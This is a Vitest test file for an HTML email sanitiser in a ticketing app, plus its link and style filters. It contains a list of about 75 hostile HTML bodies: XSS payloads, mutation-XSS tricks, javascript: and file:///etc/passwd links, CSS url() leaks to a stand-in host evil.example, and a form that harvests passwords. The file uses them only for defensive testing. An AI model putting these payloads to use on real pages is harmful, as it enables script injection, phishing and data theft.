// @vitest-environment jsdom
import { describe, expect, it } from 'vitest'
import { safeLink } from '../../../../renderer/app/writing/safe-link.ts'
import { cleanBody } from '../../../../renderer/features/tickets/conversation/html/sanitise.ts'
import { cleanStyle } from '../../../../renderer/features/tickets/conversation/html/styles.ts'

function show(html: string): string {
  const { fragment, quoted } = cleanBody(html)
  const host = document.implementation.createHTMLDocument('').createElement('div')
  host.append(host.ownerDocument.importNode(fragment, true))
  if (quoted) host.append(host.ownerDocument.importNode(quoted, true))
  return host.innerHTML
}

/** Nothing in the result may run, load, navigate, cover, submit or name itself. */
function threats(html: string): string[] {
  const { fragment, quoted } = cleanBody(html)
  const found: string[] = []
  for (const part of quoted ? [fragment, quoted] : [fragment]) {
    for (const element of part.querySelectorAll('*')) {
      const tag = element.localName
      if (
        /^(?:script|style|link|meta|base|iframe|frame|object|embed|form|input|button|textarea|select|svg|math|video|audio|source|template|portal|noscript|xmp|marquee)$/.test(
          tag,
        )
      )
        found.push(tag)
      if (element.namespaceURI !== 'http://www.w3.org/1999/xhtml') found.push(`namespace of ${tag}`)
      for (const { name, value } of element.attributes) {
        if (name.startsWith('on')) found.push(name)
        if (
          [
            'href',
            'action',
            'formaction',
            'srcset',
            'background',
            'poster',
            'id',
            'name',
            'class',
            'target',
            'ping',
            'xlink:href',
            'srcdoc',
            'lowsrc',
            'dynsrc',
          ].includes(name)
        )
          found.push(name)
        if (name === 'src' && !/^data:image\/(?:png|jpe?g|gif|webp);base64,/i.test(value)) found.push(`src ${value}`)
        if (name === 'data-link' && !/^(?:https|mailto|tel):/.test(value)) found.push(`link ${value}`)
        if (name === 'data-remote' && !value.startsWith('https:')) found.push(`remote ${value}`)
        if (name === 'style' && /url|expression|@|\\|position|behavior|binding|-moz|javascript|\/\*/i.test(value))
          found.push(`style ${value}`)
      }
    }
  }
  return found
}

const hostile: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="&#97;lert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"/></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  '<embed src="https://evil.example/x.swf">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="  java\tscript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="smb://evil.example/share">x</a>',
  '<a href="ms-officecmd:{}">x</a>',
  '<a href="switchboard://ticket/1" target="_top">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://bank.example@evil.example/">x</a>',
  '<a href="https://evil.example" ping="https://evil.example/p" onclick="alert(1)">x</a>',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">Sign in</button></form>',
  '<input onfocus=alert(1) autofocus>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video src=https://evil.example/v poster=https://evil.example/p onloadstart=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<picture><source srcset="https://evil.example/a 1x"><img src="https://evil.example/a.png" srcset="https://evil.example/b 2x"></picture>',
  '<body onload=alert(1) background="https://evil.example/bg.png">x',
  '<table background="https://evil.example/bg.png"><tr><td background="//evil.example/x">x</td></tr></table>',
  '<div style="background:url(https://evil.example/x)">x</div>',
  '<div style="background-image:u\\72l(https://evil.example/x)">x</div>',
  '<div style="width: expression(alert(1))">x</div>',
  '<div style="position:fixed;inset:0;z-index:9999">cover</div>',
  '<div style="po/**/sition:fixed;color:red/*;top:0*/">cover</div>',
  '<div style="behavior:url(x.htc);-moz-binding:url(x.xml#a)">x</div>',
  '<div style=\'font-family:"a;position:fixed;b"\'>x</div>',
  '<style>@import url(https://evil.example/x.css); body{display:none}</style>x',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<link rel="prefetch" href="https://evil.example/">',
  '<link rel="dns-prefetch" href="//evil.example">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<img name="body"><img id="getElementById"><form id="switchboard"></form>',
  '<a id="config"></a><a id="config" name="url" href="cid:x">clobber</a>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="data:text/html;base64,PHNjcmlwdD4=">',
  '<img src="file:///etc/passwd">',
  '<img src="//evil.example/x.png">',
  '<img lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '<title><img src=x onerror=alert(1)></title>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<x-custom onclick=alert(1) is="x">x</x-custom>',
  '<p is="evil-element" slot="x" part="y">x</p>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<div contenteditable onpaste=alert(1) draggable=true accesskey=x tabindex=1>x</div>',
  '<portal src="https://evil.example"></portal>',
  `${'<div>'.repeat(120)}<img src=x onerror=alert(1)>`,
  '<blockquote type="cite" onclick=alert(1) cite="javascript:alert(1)">x</blockquote>',
  '<div class="gmail_quote" onmouseover=alert(1)><script>alert(1)</script>quoted</div>',
  '<p data-remote="http://evil.example/x" data-link="javascript:alert(1)" data-cid="x">x</p>',
  '<a href="https://ok.example" data-link="javascript:alert(1)">x</a>',
]

describe('sanitising a message body', () => {
  it('has a long list of hostile bodies', () => {
    expect(hostile.length).toBeGreaterThan(60)
  })
  it.each(hostile.map((html) => [html.slice(0, 80), html]))('leaves nothing dangerous of %s', (_, html) => {
    expect(threats(html)).toEqual([])
    expect(threats(`<p>Hello</p>${html}<p>bye</p>`)).toEqual([])
  })
  it('comes to the same result when its own result is cleaned again', () => {
    for (const html of hostile) expect(threats(show(html))).toEqual([])
  })

  it('shows what an agent composed without a frame', () => {
    const body =
      '<p>Dear <strong>Ana</strong>,</p><ul><li><p>one</p></li></ul><p><a href="https://help.example/a">Guide</a></p>'
    const clean = cleanBody(body)
    expect(clean.simple).toBe(true)
    expect(show(body)).toContain('data-link="https://help.example/a"')
  })
  it('needs no frame for a mail whose only style is its typeface', () => {
    const clean = cleanBody('<div style="font-family:Calibri;font-size:11pt;color:#000000">Hello</div>')
    expect(clean.simple).toBe(true)
    expect(clean.ownColours).toBe(false)
    expect(show('<div style="font-family:Calibri">Hello</div>')).toBe('<div>Hello</div>')
  })
  it('puts tables, colours and alignment into a frame', () => {
    expect(cleanBody('<table><tr><td>x</td></tr></table>').simple).toBe(false)
    expect(cleanBody('<p style="color:#c00">x</p>')).toMatchObject({ simple: false, ownColours: true })
    expect(cleanBody('<p align="center">x</p>').simple).toBe(false)
  })
  it('counts remote images and drops trackers', () => {
    const clean = cleanBody(
      '<img src="https://a.example/1.png"><img src="http://a.example/2.png"><img src="https://t.example/o.gif" width="1" height="1"><img src="https://t.example/p.gif" style="display:none">',
    )
    expect(clean.remoteImages).toBe(2)
    expect(clean.simple).toBe(false)
    expect(clean.fragment.querySelectorAll('img')).toHaveLength(2)
    expect([...clean.fragment.querySelectorAll('img')].every((img) => !img.hasAttribute('src'))).toBe(true)
  })
  it('keeps inline images by their content id and mentions by their person', () => {
    expect(show('<p><img src="cid:0190" alt="Photo"></p>')).toBe('<p><img alt="Photo" data-cid="0190"></p>')
    expect(show('<span data-type="mention" data-id="u1" data-label="Bo">@Bo</span>')).toContain('data-id="u1"')
  })
  it('keeps words in every script', () => {
    const text = 'Olá, Größe, 你好, مرحبا, שלום, 🙂'
    expect(show(`<p>${text}</p>`)).toBe(`<p>${text}</p>`)
  })
})

describe('links out of a message', () => {
  it('allows https, mail and telephone, and asks for http as https', () => {
    expect(safeLink('https://a.example/x?y=1#z')).toBe('https://a.example/x?y=1#z')
    expect(safeLink('http://a.example/')).toBe('https://a.example/')
    expect(safeLink('mailto:a@b.example')).toBe('mailto:a@b.example')
    expect(safeLink('tel:+351912345678')).toBe('tel:+351912345678')
  })
  it('refuses everything else and unmasks the host', () => {
    for (const bad of [
      'javascript:alert(1)',
      'file:///x',
      'relative',
      '',
      'data:text/html,x',
      `https://a.example/${'x'.repeat(5000)}`,
    ]) {
      expect(safeLink(bad)).toBeNull()
    }
    expect(safeLink('https://bank.example@evil.example/')).toBe('https://evil.example/')
  })
})

describe('styles of a message', () => {
  it('keeps what is harmless', () => {
    expect(cleanStyle('color: #333; text-align: center').text).toBe('color: #333; text-align: center')
    expect(cleanStyle('background: #eef').text).toBe('background-color: #eef')
  })
  it('leaves out what loads, moves or hides', () => {
    for (const style of [
      'background:url(x)',
      'position:absolute',
      'margin:-40px',
      'transform:scale(9)',
      'content:"x"',
      'display:flex',
      'color:var(--x)',
    ]) {
      expect(cleanStyle(style).text).toBe('')
    }
  })
})
